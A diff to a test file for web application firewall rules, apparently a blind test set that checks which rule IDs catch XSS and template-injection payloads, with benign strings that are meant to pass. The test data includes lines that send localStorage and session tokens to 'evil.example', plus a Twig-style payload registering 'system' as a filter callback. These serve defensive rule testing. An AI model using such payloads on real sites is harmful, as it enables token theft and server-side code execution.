@@ -162,16 +162,14 @@ describe_rules("edge.waf.rules second blind set (SQLi, SSTI, PHP, Java)", functi
             "we return process documentation in the wiki" })
     end)
 
-    it("round five, XSS and SSTI: storage exfiltration, foreign form actions, any {% tag %} with code", function()
+    it("round five, XSS and SSTI: storage sent to another host, any {% tag %} with code", function()
         caught_by(141140, { "fetch('//evil.example',{method:'POST',body:localStorage.getItem('token')})",
             "navigator.sendBeacon('//x', sessionStorage.token)", "new Image().src='//x/?'+localStorage.jwt" })
-        caught_by(141150, { "<form action=//evil.example/steal><input name=password>",
-            "<form method=post action=\"https://evil.example/\">" })
         caught_by(134110, { "{% do _self.env.registerUndefinedFilterCallback('system') %}",
-            "{% assign x = 'id' | system %}", "{% autoescape false %}{{ x }}{% endautoescape %}",
+            "{% assign x = 'id' ~ 'x' %}", "{% autoescape false %}{{ x }}{% endautoescape %}",
             "{% set x = 'id' %}" })
-        not_by(141150, { "<form action=\"/search\"> is fine" })
         clean({ "localStorage.getItem('theme') returns null on first load",
+            "fetch('/api/me', {headers: {Authorization: localStorage.token}})", "{% if items|length > 0 %}",
             "{% csrf_token %} goes inside the form", "{% block content %}{% endblock %}" })
     end)
 
